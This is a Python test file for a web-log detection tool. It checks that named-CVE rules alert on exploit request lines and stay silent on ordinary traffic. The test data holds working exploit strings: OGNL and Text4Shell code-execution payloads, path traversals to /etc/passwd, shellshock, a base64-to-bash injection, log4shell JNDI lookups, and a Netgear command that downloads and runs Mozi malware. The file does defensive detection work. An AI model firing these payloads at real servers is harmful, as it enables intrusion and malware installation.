"""Named-exploit rules (cve/*.yml) on access and error log lines.

Each rule is checked on a real exploit line where one exists (CrowdSec hub test cases, MIT, crowdsecurity/hub —
named per line) and on variants of the same exploit the hub's line does not show (another encoding, another
payload, another prefix), then on ordinary requests to the same products that must stay quiet.
"""

from __future__ import annotations

import pytest

from detectors.sigma_rules.conftest import by_rule, run_rules


def acc(path: str, status: int = 404, method: str = "GET", agent: str = "curl/7.68.0", ip: str = "203.0.113.9",
        referer: str = "-") -> str:
    return f'{ip} - - [10/Dec/2026:10:00:00 +0000] "{method} {path} HTTP/1.1" {status} 153 "{referer}" "{agent}"'


POSITIVE: list[tuple[str, str]] = [
    # CrowdSec hub test case CVE-2017-9841
    ("cve.phpunit_eval_stdin", acc("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 200, "POST")),
    ("cve.phpunit_eval_stdin", acc("/laravel/vendor/phpunit/phpunit/Util/PHP/eval-stdin.php", 404, "POST")),
    # CrowdSec hub test case CVE-2019-18935; the second is a version probe tools send first
    ("cve.telerik_rau_handler", acc("/Telerik.Web.UI.WebResource.axd?type=rau")),
    ("cve.telerik_rau_handler", acc("/app/Telerik.Web.UI.WebResource.axd?type=rau", 200)),
    # CrowdSec hub test case CVE-2022-26134, and a CVE-2021-26084 style OGNL body in the query
    ("cve.java_expression_injection",
     acc("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29"
         ".exec%28%22ls%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/")),
    ("cve.java_expression_injection", acc("/pages/doenterpagevariables.action?queryString=%5cu0027%2b%7b"
                                          "Class.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29%7d")),
    ("cve.java_expression_injection", acc("/", agent="${T(java.lang.Runtime).getRuntime().exec('id')}")),
    # CrowdSec hub test case CVE-2022-35914
    ("cve.glpi_htmlawed", acc("/vendor/htmlawed/htmlawed/htmLawedTest.php", 200, "POST")),
    ("cve.glpi_htmlawed", acc("/glpi/vendor/htmlawed/htmlawed/htmLawedTest.php", 200)),
    # CrowdSec hub test case CVE-2022-42889 (all four payload kinds)
    ("cve.text4shell", acc("/?search=%24%7Burl%3AUTF-8%3Ahttps%3A%2F%2Fwww.google.com%2F%7D")),
    ("cve.text4shell", acc("/?search=%24%7Bdns%3Aaddress%7Cwww.google.com%7D")),
    ("cve.text4shell",
     acc("/api?q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D")),
    # CrowdSec hub test cases CVE-2023-22515 and CVE-2023-22518
    ("cve.confluence_setup_abuse", acc("/setup/setupadministrator.action")),
    ("cve.confluence_setup_abuse",
     acc("/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false", 200)),
    ("cve.confluence_restore_abuse", acc("/json/setup-restore.action", 404, "POST")),
    ("cve.confluence_restore_abuse", acc("/wiki/json/setup-restore-local.action", 200, "POST")),
    # CrowdSec hub test cases CVE-2024-0012, CVE-2024-9474, CVE-2025-0108
    ("cve.panos_management_bypass", acc("/php/ztp_gate.php/.js.map")),
    ("cve.panos_management_bypass", acc("/php/utils/createRemoteAppwebSession.php/watchTowr.js.map", 404, "POST")),
    ("cve.panos_management_bypass", acc("/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css")),
    ("cve.panos_management_bypass", acc("/index.php/.js.map")),
    # CrowdSec hub test cases apache-cve-2021-41773 and cve-2021-42013, and the /icons/ variant
    ("cve.apache_httpd_path_traversal", acc("/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", 200, "POST")),
    ("cve.apache_httpd_path_traversal", acc("/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/bash", 200, "POST")),
    ("cve.apache_httpd_path_traversal", acc("/icons/.%2e/%2e%2e/%2e%2e/etc/passwd")),
    ("cve.apache_httpd_path_traversal",
     "[Fri Oct 08 17:08:41.203277 2021] [core:error] [pid 7005:tid 1] [client 88.168.206.87:14532] AH00126: Invalid "
     "URI in request GET /cgi-bin/.%2E/%2E%2E/%2E%2E/etc/passwd HTTP/1.1 "),
    # CrowdSec hub test case cve-2023-49103
    ("cve.owncloud_graphapi_phpinfo",
     acc("/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php", 200)),
    ("cve.owncloud_graphapi_phpinfo",
     acc("/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css")),
    # CrowdSec hub test case cve_2022_37042
    ("cve.zimbra_mboximport_upload",
     acc("/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1", 404, "POST")),
    ("cve.zimbra_mboximport_upload",
     acc("/service/extension/backup/mboximport?account-name=user1&account-status=1&ow=cmd", 401, "POST")),
    # CrowdSec hub test case f5-big-ip-cve-2020-5902, plus the iControl REST bash call
    ("cve.f5_bigip_exploit", acc("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/f5-release")),
    ("cve.f5_bigip_exploit", acc("/tmui/login.jsp/%2E%2E;/tmui/locallb/workspace/tmshCmd.jsp?command=whoami")),
    ("cve.f5_bigip_exploit", acc("/mgmt/tm/util/bash", 200, "POST")),
    ("cve.java_path_parameter_traversal", acc("/s/x/_/;/WEB-INF/web.xml")),
    # CrowdSec hub test case grafana_cve-2021-43798
    ("cve.grafana_plugin_traversal", acc("/public/plugins/grafana/../../../../../../etc/passwd", 400)),
    ("cve.grafana_plugin_traversal", acc("/public/plugins/alertlist/%2E%2E/%2E%2E/%2E%2E/etc/grafana/grafana.ini")),
    # CrowdSec hub test case pulse-secure-sslvpn-cve-2019-11510
    ("cve.pulse_secure_traversal",
     acc("/dana-na/../dana/html5acc/guacamole/../../../../../../../etc/passwd?/dana/html5acc/guacamole/", 200)),
    ("cve.pulse_secure_traversal", acc("/api/v1/totp/user-backup-code/../../system/system-information")),
    # CrowdSec hub test case thinkphp-cve-2018-20062 (percent, \x5C and doubled-backslash forms)
    ("cve.thinkphp_rce", acc("/?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array"
                             "&vars%5B0%5D=phpinfo&vars%5B1%5D%5B%5D=1", 200)),
    ("cve.thinkphp_rce", acc("/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array"
                             "&vars[0]=md5&vars[1][]=HelloThinkPHP21", 403)),
    ("cve.thinkphp_rce",
     acc("/public/?s=index/%5Cthink%5Cview%5Cdriver%5CPhp/display&content=%3C?php%20phpinfo();?%3E")),
    # CrowdSec hub test case vmware-cve-2022-22954 (hex-encoded and fully encoded forms)
    ("cve.vmware_workspace_one_ssti",
     acc("/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%22%7d")),
    ("cve.vmware_workspace_one_ssti",
     acc("%2Fcatalog-portal%2Fui%2Foauth%2Fverify%3Ferror%3D%26deviceUdid%3D%24%7B%22freemarker.template.utility"
         ".Execute%22%3Fnew%28%29%28%22id%22%29%7D", 200)),
    ("cve.vmware_vcenter_exploit", acc("/ui/vropspluginui/rest/services/uploadova", 200, "POST")),
    ("cve.vmware_vcenter_exploit", acc("/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd")),
    # CrowdSec hub test cases zoneminder_cve-39285 / -39291 (shortened)
    ("cve.zoneminder_log_injection",
     acc("/zm/index.php?view=request&request=log&task=create&level=ERR&message=x&file=http%3A%2F%2F10.0.10.107%2Fzm"
         "%2F&lt;/td&gt;&lt;/tr&gt;&lt;script src='/zm/?view=options'&lt;/script&gt;&line=70", 200, "POST")),
    # CrowdSec hub test case netgear_rce
    ("cve.netgear_setup_cgi", acc("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://"
                                  "192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1")),
    # Exploits named in the hub's http-cve collection, written from their public advisories
    ("cve.fortinet_fgt_lang_traversal", acc("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession")),
    ("cve.fortinet_admin_api_bypass", acc("/api/v2/cmdb/system/admin/admin", 200, "PUT", agent="Report Runner")),
    ("cve.spring4shell",
     acc("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di")),
    ("cve.spring4shell", acc("/app?class.module.classLoader.URLs%5B0%5D=0", 400)),
    ("cve.exchange_proxy_exploit",
     acc("/autodiscover/autodiscover.json?@zdi/PowerShell?serializationLevel=Full;ExchClientVer=15.2.922.7", 200)),
    ("cve.exchange_proxy_exploit", acc("/autodiscover/autodiscover.json?a=a@b.c/mapi/nspi/?&Email=autodiscover/"
                                       "autodiscover.json%3Fa=a@b.c", 200, "POST")),
    ("cve.cwp_login_injection", acc("/login/index.php?login=$(echo${IFS}cHduZAo|base64${IFS}-d|bash)", 302, "POST")),
    ("cve.cacti_remote_agent_injection",
     acc("/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=`id`", 200)),
    ("cve.cacti_remote_agent_injection", acc("/cacti/remote_agent.php?action=polldata&poller_id=1%3Bid&host_id=1")),
    ("cve.citrix_adc_exploit", acc("/vpn/../vpns/portal/scripts/newbm.pl", 200, "POST")),
    ("cve.weblogic_console_bypass", acc("/console/css/%252e%252e%252fconsole.portal", 200)),
    ("cve.drupalgeddon2", acc("/user/register?element_parents=account/mail/%23value&ajax_form=1"
                              "&_wrapper_format=drupal_ajax", 200, "POST")),
    ("cve.php_cgi_argument_injection", acc("/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
                                           200, "POST")),
    ("cve.php_cgi_argument_injection", acc("/cgi-bin/php-cgi?-d+allow_url_include=on+-d+auto_prepend_file=php://input",
                                           200, "POST")),
    ("cve.screenconnect_setup_bypass", acc("/SetupWizard.aspx/literally", 200, "POST")),
    ("cve.teamcity_auth_bypass", acc("/hax?jsp=/app/rest/users/id:1/tokens;.jsp", 200, "POST")),
    ("cve.ofbiz_auth_bypass", acc("/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y", 200,
                                  "POST")),
    ("cve.shellshock", acc("/cgi-bin/status", 200, agent="() { :; }; /bin/bash -c 'id'")),
    ("cve.joomla_config_disclosure", acc("/api/index.php/v1/config/application?public=true", 200)),
    ("cve.sharepoint_toolpane", acc("/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", 401, "POST")),
]


@pytest.mark.parametrize(("rule", "line"), POSITIVE, ids=[f"{r}-{i}" for i, (r, _) in enumerate(POSITIVE)])
def test_exploit_shape_alerts_on_the_attacker(rule: str, line: str) -> None:
    hits = by_rule(run_rules([line]), rule)
    assert hits, f"{rule} missed {line}"
    ip = line.split(" ", 1)[0] if not line.startswith("[") else "88.168.206.87"
    assert {h.entity for h in hits} == {f"src_ip={ip}"}
    assert all(h.severity in ("high", "critical") for h in hits)


BENIGN = [
    acc("/vendor/phpunit/phpunit/README.md", 404),
    acc("/Telerik.Web.UI.WebResource.axd?type=rau", 200, "POST"),  # a real async upload on a Telerik site
    acc("/search?q=%24%7Bprice%7D+to+euros", 200),  # a ${...} that calls nothing
    acc("/setup/index.html", 200),
    acc("/server-info.action", 200),
    acc("/php/login.php", 200),
    acc("/static/app.js.map", 200),
    acc("/cgi-bin/awstats.pl?config=www", 200),
    acc("/public/plugins/grafana-piechart-panel/img/logo.svg", 200),
    acc("/api/v1/totp/user-backup-code", 200, "POST"),
    acc("/index.php?s=search&q=thinking+about+apps", 200),
    acc("/catalog-portal/ui/oauth/verify?error=&deviceUdid=abc123", 200),
    acc("/zm/index.php?view=request&request=log&task=create&level=ERR&message=TypeError&file=/zm/skins/x.js"
        "&line=70", 200, "POST"),
    acc("/remote/login?lang=en", 200),
    acc("/api/v2/cmdb/system/admin/admin", 401, "PUT", agent="Mozilla/5.0"),
    acc("/?class=module&loader=1", 200),
    acc("/autodiscover/autodiscover.xml", 401, "POST"),
    acc("/login/index.php?login=admin", 200, "POST"),
    acc("/remote_agent.php?action=polldata&poller_id=1&host_id=1&local_data_ids[0]=6", 200),
    acc("/vpn/index.html", 200),
    acc("/user/register", 200, "POST"),
    acc("/cgi-bin/php-cgi?page=1", 200),
    acc("/SetupWizard.aspx", 200),
    acc("/app/rest/builds", 200),
    acc("/wp-admin/admin-ajax.php?action=heartbeat", 200, "POST"),
]


def test_ordinary_requests_to_the_same_products_stay_quiet() -> None:
    hits = [h for h in run_rules(BENIGN) if h.rule_id.startswith("cve.") and h.severity != "low"]
    assert not hits, sorted({(h.rule_id, h.entity) for h in hits})


def test_question_mark_truncation_needs_three_distinct_refusals() -> None:
    probes = [acc(f"/admin{i}.php%3F", 403, ip="198.51.100.3") for i in range(3)]
    hits = by_rule(run_rules(probes), "cve.apache_rewrite_probing")
    assert {h.entity for h in hits} == {"src_ip=198.51.100.3"}
    assert not by_rule(run_rules(probes[:2]), "cve.apache_rewrite_probing")


def test_ghost_session_enumeration_needs_six_refusals() -> None:
    # CrowdSec hub test case CVE-2022-41697: six refused session posts from one address.
    lines = [acc("/ghost/api/admin/session", 404, "POST", ip="1.2.3.5") for _ in range(6)]
    assert {h.entity for h in by_rule(run_rules(lines), "cve.ghost_user_enum")} == {"src_ip=1.2.3.5"}
    assert not by_rule(run_rules(lines[:5]), "cve.ghost_user_enum")


def test_log4shell_in_agent_referer_and_nested_lookups() -> None:
    # CrowdSec hub test case apache_log4j2_cve-2021-44228 (the obfuscated lookups in the agent and the referer)
    agent = acc("/", 200, agent="${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.binaryedge.io:80/callback}",
                ip="192.168.1.4")
    referer = acc("/", 200, referer="${${::-j}ndi:rmi://x.example/a}", ip="192.168.1.5")
    hits = by_rule(run_rules([agent, referer]), "web.log4shell_jndi")
    assert {h.entity for h in hits} == {"src_ip=192.168.1.4", "src_ip=192.168.1.5"}
